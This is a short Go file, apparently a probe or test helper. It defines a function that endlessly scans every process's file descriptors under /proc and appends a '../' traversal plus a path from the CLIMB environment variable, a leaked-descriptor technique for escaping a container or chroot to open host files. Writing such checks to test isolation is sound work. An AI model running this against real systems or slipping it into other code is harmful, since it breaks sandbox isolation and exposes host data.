package main

import (
	"fmt"
	"os"
	"path/filepath"
)

// climb looks at the descriptors of all processes it sees, for ever, and ends
// when one of them leads up to a directory from where the file that $CLIMB
// names can be opened.
func climb() (any, error) {
	fmt.Println("climbing")
	for {
		fds, err := filepath.Glob("/proc/[0-9]*/fd/[0-9]*")
		if err != nil {
			return nil, err
		}
		for _, fd := range fds {
			way := fd + "/../../../../../../../.." + os.Getenv("CLIMB")
			if f, err := os.Open(way); err == nil {
				f.Close()
				return "reached " + way, nil
			}
		}
	}
}
